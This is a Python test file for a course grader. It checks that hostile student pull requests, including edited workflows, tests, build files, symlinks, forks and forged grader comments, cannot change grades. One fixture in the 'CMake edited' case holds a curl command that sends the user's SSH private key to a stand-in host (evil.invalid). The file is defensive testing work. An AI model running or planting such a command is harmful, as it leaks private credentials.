"""Grading students' pull requests from the course's repository (grader/course/student_prs.py,
`grader pr-queue`), against a fake GitHub API served from a local bare git repository that
holds a student's repository (grader/tests/fake_github.py): its default branch (with a
grader the student edited) and `refs/pull/N/head` for each pull request. The hostile pull
requests of a course's threat model are cases: each one's submission, as the grade would
read it, holds only the student files of the labs it changes, byte for byte its head
commit's; nothing it edited besides reaches the grader, which takes everything else from the
course's checkout."""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import shutil
import tempfile
import unittest
import urllib.parse
from pathlib import Path

from grader.commands import ci, pr_queue
from grader.course import student_prs
from grader.paths import ROOT
from grader.tests.fake_github import FakeGitHub, StudentRepository, git
from grader.workspace import MAX_STUDENT_FILE, place_student_file

ORG, REPO = "course-org", "course-org/cuda-labs-alice"
READ, COMMENT = "read-t0ken", "comment-t0ken"
BOT = "cml-grader[bot]"
LAB = "04_tiled_matmul"
STUDENT_FILE = f"labs/{LAB}/tiled_matmul.cu"
SKELETON = (ROOT / STUDENT_FILE).read_bytes() if (ROOT / STUDENT_FILE).is_file() else b""
WORK = "\n// my tiling, with care\n"


def hostile_pull_requests(student: StudentRepository) -> dict[int, str]:
    """The threat model's pull requests, after the student committed an edited grader to
    their default branch (the base every pull request of theirs is made against)."""
    student.write("grader/scoring.py", "def lab_totals(*a):\n    return 100.0  # all points\n")
    student.commit("my grader", push="main")
    cases = {
        "workflow edited": lambda s: (
            s.write(".github/workflows/build.yml",
                    "on: pull_request\njobs:\n  own:\n    runs-on: [self-hosted, linux, gpu]\n"
                    "    permissions:\n      pull-requests: write\n    steps:\n"
                    "      - run: echo '## CUDA Memory Labs: 100 / 100 points' > comment.md\n"),
            s.write(STUDENT_FILE, SKELETON.decode() + WORK)),
        "tests edited": lambda s: s.write(
            f"labs/{LAB}/tests/test_tiled_matmul.cpp",
            '#include <catch2/catch_test_macros.hpp>\nTEST_CASE("all pass") { CHECK(true); }\n'),
        "interface edited": lambda s: s.write(
            f"labs/{LAB}/tiled_matmul.cuh", "#pragma once\n// every function is mine now\n"),
        "CMake edited": lambda s: s.write(
            f"labs/{LAB}/CMakeLists.txt",
            "execute_process(COMMAND sh -c \"curl -d @$HOME/.ssh/id_rsa evil.invalid\")\n"
            "cml_add_lab()\n"),
        "presets edited": lambda s: (
            s.write("CMakePresets.json", '{"version": 6, "configurePresets": [{"name": '
                    '"default", "cacheVariables": {"CML_STUDENT_BUILD": "OFF"}}]}\n'),
            s.write(STUDENT_FILE, SKELETON.decode() + WORK)),
        "student file a link": lambda s: (
            (s.work / STUDENT_FILE).unlink(),
            (s.work / STUDENT_FILE).symlink_to("../../solutions/04_tiled_matmul/tiled_matmul.cu")),
        "docs only": lambda s: s.write("README.md", "my notes\n"),
    }
    return {student.pull_request(name.replace(" ", "-"), edit): name
            for name, edit in cases.items()}


def args(*argv: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    pr_queue.add_parser(parser.add_subparsers(dest="command"))
    return parser.parse_args(["pr-queue", *argv])


def quiet(call, *a, **kw):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = call(*a, **kw)
    return status, out.getvalue() + err.getvalue()


@unittest.skipUnless(shutil.which("git") and (ROOT / STUDENT_FILE).is_file(),
                     f"needs git and {STUDENT_FILE} (a staged student copy may not have it)")
class HostilePullRequestsTest(unittest.TestCase):
    """The new path, end to end but for the build: fetch, grade (a stand-in for `grader ci`
    that records how it was called and writes what ci writes), post, and the next run."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = Path(tempfile.mkdtemp(prefix="cml-prs-"))
        cls.student = StudentRepository(cls.tmp, (LAB, "02_coalescing"))
        cls.cases = hostile_pull_requests(cls.student)
        cls.number = {name: n for n, name in cls.cases.items()}
        cls.hub = FakeGitHub(cls.student.bare, ORG, REPO, READ, COMMENT, BOT)
        cls.hub.forks[cls.student.pull_request("from-a-fork", lambda s: s.write(
            STUDENT_FILE, "// someone else's\n"))] = "mallory/cuda-labs-alice"
        # a comment by the student that claims the workflow-edit PR's head was graded
        head = cls.hub.head(cls.number["workflow edited"])
        cls.hub.comments[cls.number["workflow edited"]] = [
            {"id": 1, "user": {"login": "alice"},
             "body": f"{student_prs.MARKER}\n100 / 100\n<!-- cml-grader head={head} -->"}]
        cls.queue, cls.results = cls.tmp / "queue", cls.tmp / "results"
        cls.status, cls.fetch_log = cls.fetch(cls.queue)
        cls.fetch_requests = list(cls.hub.requests)

    @classmethod
    def fetch(cls, queue: Path) -> tuple[int, str]:
        return quiet(pr_queue.run, args("fetch", "--queue", str(queue), "--org", ORG,
                                        "--prefix", "cuda-labs-", "--commenter", BOT),
                     env={"CML_READ_TOKEN": READ, "GITHUB_API_URL": "https://api.invalid"},
                     transport=cls.hub)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def jobs(self, queue: Path | None = None) -> dict[str, student_prs.Job]:
        return {self.cases.get(job.number, "?"): job
                for job in student_prs.read_queue(queue or self.queue)}

    def submission(self, name: str) -> dict[str, bytes]:
        folder = self.queue / self.jobs()[name].key / "submission"
        return {p.relative_to(folder).as_posix(): p.read_bytes()
                for p in folder.rglob("*") if p.is_file()}

    def test_what_is_queued_and_what_is_skipped(self):
        self.assertEqual(self.status, 0, self.fetch_log)
        self.assertEqual(sorted(self.jobs()), sorted(
            ["workflow edited", "tests edited", "interface edited", "CMake edited",
             "presets edited", "student file a link"]))
        self.assertIn(f"{REPO}#{self.number['docs only']}: changes no lab", self.fetch_log)
        self.assertIn("its commits are in mallory/cuda-labs-alice", self.fetch_log)
        for job in self.jobs().values():
            self.assertEqual(job.labs, [LAB])

    def test_only_the_student_files_at_the_head_reach_the_grader(self):
        # Whatever each pull request edited, the grader gets one file: the student's, at
        # the head commit. Tests, interface, CMake, presets, workflows and the grader the
        # student committed to their default branch stay the course's: the grade is the
        # one an untouched skeleton gets ("tests edited", ...) or the work's own.
        for name in ("tests edited", "interface edited", "CMake edited"):
            self.assertEqual(self.submission(name), {STUDENT_FILE: SKELETON}, name)
        for name in ("workflow edited", "presets edited"):
            self.assertEqual(self.submission(name), {STUDENT_FILE: SKELETON + WORK.encode()})
            head = self.jobs()[name].head_sha
            self.assertEqual(git(self.student.bare, "show", f"{head}:{STUDENT_FILE}").encode(),
                             SKELETON + WORK.encode())
        asked = {urllib.parse.unquote(p.split("/contents/", 1)[1])
                 for _t, _m, p in self.fetch_requests if "/contents/" in p}
        self.assertEqual(asked, {STUDENT_FILE})  # not even read: grader/, tests, CMake, ...

    def test_a_link_is_refused_and_said(self):
        job = self.jobs()["student file a link"]
        self.assertEqual(self.submission("student file a link"), {})
        self.assertEqual(len(job.problems), 1)
        self.assertIn("is a symlink in the pull request's head commit", job.problems[0])
        # and the grade's own placement (stages/prepare.py) finds no file to take
        with tempfile.TemporaryDirectory() as dest:
            why = place_student_file(self.queue / job.key / "submission", STUDENT_FILE,
                                     Path(dest))
        self.assertEqual(why, f"{STUDENT_FILE} is not in the submission")

    def test_the_grade_takes_the_file_as_grade_does(self):
        # what prepare.trees does with each student file of the queue: a regular file,
        # copied into the course's tree
        job = self.jobs()["workflow edited"]
        with tempfile.TemporaryDirectory() as dest:
            self.assertIsNone(place_student_file(self.queue / job.key / "submission",
                                                 STUDENT_FILE, Path(dest)))
            self.assertEqual((Path(dest) / STUDENT_FILE).read_bytes(), SKELETON + WORK.encode())

    def test_the_read_token_only_reads(self):
        self.assertEqual({(t, m) for t, m, _p in self.fetch_requests}, {(READ, "GET")})

    def test_grade_then_post_then_the_next_run(self):
        calls: list[list[str]] = []

        def runner(argv: list[str]) -> int:  # what `grader ci --no-comment` writes
            calls.append(argv)
            out = Path(argv[argv.index("--out") + 1])
            out.mkdir(parents=True)
            name = argv[argv.index("--name") + 1]
            (out / "result.json").write_text("{}")
            (out / "comment.md").write_text(ci.comment_body(
                f"## CUDA Memory Labs: 10 / 100 points\n\nSubmission `{name}`\n"))
            return 0

        status, log = quiet(pr_queue.run, args("grade", "--queue", str(self.queue), "--out",
                                                str(self.results), "--require-gpu"),
                            runner=runner)
        self.assertEqual(status, 0, log)
        self.assertEqual(len(calls), 6)
        for argv in calls:
            self.assertEqual(argv[1:4], ["-m", "grader", "ci"])
            for flag in ("--no-comment", "--require-gpu"):
                self.assertIn(flag, argv)
            self.assertEqual(argv[argv.index("--labs") + 1], "04")
            self.assertTrue(argv[argv.index("--submission") + 1].startswith(str(self.queue)))
            self.assertRegex(argv[argv.index("--name") + 1],
                             rf"^https://github.com/{REPO}/pull/\d+ at [0-9a-f]{{12}}$")
        # a grade that tries to post elsewhere: its comment goes where the queue says
        link = self.jobs()["student file a link"]
        (self.results / link.key / "job.json").write_text(json.dumps({"repo": "x/y"}))

        status, log = quiet(pr_queue.run, args("post", "--queue", str(self.queue), "--results",
                                               str(self.results), "--commenter", BOT),
                            env={"CML_COMMENT_TOKEN": COMMENT}, transport=self.hub)
        self.assertEqual(status, 0, log)
        for name, job in self.jobs().items():
            ours = [c for c in self.hub.comments[job.number] if c["user"]["login"] == BOT]
            self.assertEqual(len(ours), 1, name)
            self.assertIn(f"<!-- cml-grader head={job.head_sha} -->", ours[0]["body"])
            self.assertNotIn(str(self.tmp), ours[0]["body"])
        self.assertIn("symlink", [c for c in self.hub.comments[link.number]
                                  if c["user"]["login"] == BOT][0]["body"])
        self.assertFalse({p for t, _m, p in self.hub.requests
                          if t == COMMENT and not p.startswith(f"/repos/{REPO}/issues/")})

        # The next run: every graded head is skipped; a new push is graded again, and its
        # comment is the same one, edited.
        again = self.tmp / "queue-2"
        status, log = self.fetch(again)
        self.assertEqual((status, self.jobs(again)), (0, {}), log)
        self.assertEqual(log.count("was graded"), 6)
        n = self.number["tests edited"]
        git(self.student.work, "checkout", "-q", "tests-edited")
        self.student.write(STUDENT_FILE, SKELETON.decode() + "// more\n")
        self.student.commit("more", push=f"refs/pull/{n}/head")
        git(self.student.work, "checkout", "-q", "main")
        status, log = self.fetch(again)
        self.assertEqual(list(self.jobs(again)), ["tests edited"], log)
        runner_calls = len(calls)
        status, log = quiet(pr_queue.run, args("grade", "--queue", str(again), "--out",
                                                str(self.results / "2")), runner=runner)
        self.assertEqual(len(calls), runner_calls + 1)
        quiet(pr_queue.run, args("post", "--queue", str(again), "--results",
                                 str(self.results / "2"), "--commenter", BOT),
              env={"CML_COMMENT_TOKEN": COMMENT}, transport=self.hub)
        ours = [c for c in self.hub.comments[n] if c["user"]["login"] == BOT]
        self.assertEqual(len(ours), 1)
        self.assertIn(f"head={self.hub.head(n)}", ours[0]["body"])


class UnitTest(unittest.TestCase):
    def test_the_marker_is_cis(self):
        self.assertEqual(student_prs.MARKER, ci.MARKER)

    def test_touched(self):
        labs = [student_prs.Lab("02_x", ("labs/02_x/x.cu",)),
                student_prs.Lab("04_y", ("labs/04_y/y.cu",))]
        self.assertEqual([lab.folder for lab in student_prs.touched(
            ["README.md", "labs/04_y/tests/t.cpp", "grader/x.py"], labs)], ["04_y"])
        self.assertEqual(student_prs.touched([".github/workflows/a.yml"], labs), [])

    @unittest.skipUnless((ROOT / STUDENT_FILE).is_file(), f"no {STUDENT_FILE} here")
    def test_course_labs_come_from_the_rubrics(self):
        labs = {lab.folder: lab for lab in student_prs.course_labs(ROOT)}
        self.assertEqual(labs[LAB].student_files, (STUDENT_FILE,))

    def test_graded_heads_believe_only_the_commenter(self):
        sha = "a" * 40
        comments = [{"user": {"login": "alice"}, "body": f"<!-- cml-grader head={'b' * 40} -->"},
                    {"user": {"login": BOT}, "body": f"x <!-- cml-grader head={sha} -->"}]

        def transport(method, url, headers, body):
            return 200, {}, json.dumps(comments if "page=1" in url else []).encode()
        api = student_prs.Api(READ, "https://api.invalid", transport)
        pull = student_prs.Pull(REPO, 3, "c" * 40, REPO)
        self.assertEqual(student_prs.graded_heads(api, pull, BOT), {sha})

    def test_a_large_file_is_refused(self):
        def transport(method, url, headers, body):
            return 200, {}, json.dumps({"type": "file", "encoding": "none",
                                        "size": MAX_STUDENT_FILE + 1, "content": ""}).encode()
        api = student_prs.Api(READ, "https://api.invalid", transport)
        data, why = student_prs.fetch_file(api, REPO, STUDENT_FILE, "a" * 40)
        self.assertIsNone(data)
        self.assertIn("larger than the 4 MiB limit for a student file", why)

    def test_errors_say_the_status(self):
        def transport(method, url, headers, body):
            return 403, {}, b'{"message": "Resource not accessible by token"}'
        api = student_prs.Api(READ, "https://api.invalid", transport)
        with self.assertRaises(student_prs.ApiError) as caught:
            student_prs.open_pulls(api, REPO)
        self.assertEqual(caught.exception.status, 403)
        self.assertIn("HTTP 403 Resource not accessible by token", str(caught.exception))

    def test_a_queue_that_names_another_folder_is_refused(self):
        with tempfile.TemporaryDirectory() as tmp:
            job = {"repo": REPO, "number": 3, "head_sha": "a" * 40, "labs": [LAB],
                   "key": "../../etc"}
            (Path(tmp) / student_prs.QUEUE_FILE).write_text(json.dumps({"jobs": [job]}))
            with self.assertRaises(ValueError):
                student_prs.read_queue(Path(tmp))

    @staticmethod
    def grade_two_jobs(flag: str, status: int) -> tuple[int, str, list[list[str]]]:
        """`pr-queue grade FLAG` over a queue of two jobs, each grade ending with `status`:
        (its exit status, its output, the grades' command lines)."""
        with tempfile.TemporaryDirectory() as tmp:
            jobs = [student_prs.Job(REPO, n, f"{n:040x}", [LAB]) for n in (1, 2)]
            for job in jobs:
                job.key = student_prs.Pull(REPO, job.number, job.head_sha, REPO).key
            (Path(tmp) / student_prs.QUEUE_FILE).write_text(json.dumps(
                {"jobs": [job.__dict__ for job in jobs]}))
            calls: list[list[str]] = []
            code, log = quiet(pr_queue.run, args("grade", "--queue", tmp, "--out", tmp, flag),
                              runner=lambda argv: calls.append(argv) or status)
        return code, log, calls

    def test_no_gpu_stops_the_grading(self):
        status, log, calls = self.grade_two_jobs("--require-gpu", ci.NO_GPU)
        self.assertEqual((status, len(calls)), (ci.NO_GPU, 1))
        self.assertIn("no usable GPU on this runner", log)

    def test_host_parts_only_when_asked(self):
        status, log, calls = self.grade_two_jobs("--no-gpu", 0)
        self.assertEqual((status, len(calls)), (0, 2), log)
        for argv in calls:
            self.assertIn("--no-gpu", argv)
            self.assertNotIn("--require-gpu", argv)

    def test_the_comment_text(self):
        job = student_prs.Job(REPO, 3, "a" * 40, [LAB], problems=["x is a symlink"])
        text = student_prs.comment_text(job, "no marker here\n")
        self.assertTrue(text.startswith(student_prs.MARKER))
        self.assertIn("- x is a symlink", text)
        self.assertTrue(text.rstrip().endswith(f"<!-- cml-grader head={'a' * 40} -->"))
        long = student_prs.comment_text(job, student_prs.MARKER + "x" * 70000)
        self.assertLessEqual(len(long), student_prs.COMMENT_LIMIT)
        self.assertIn("head=", long)


if __name__ == "__main__":
    unittest.main()
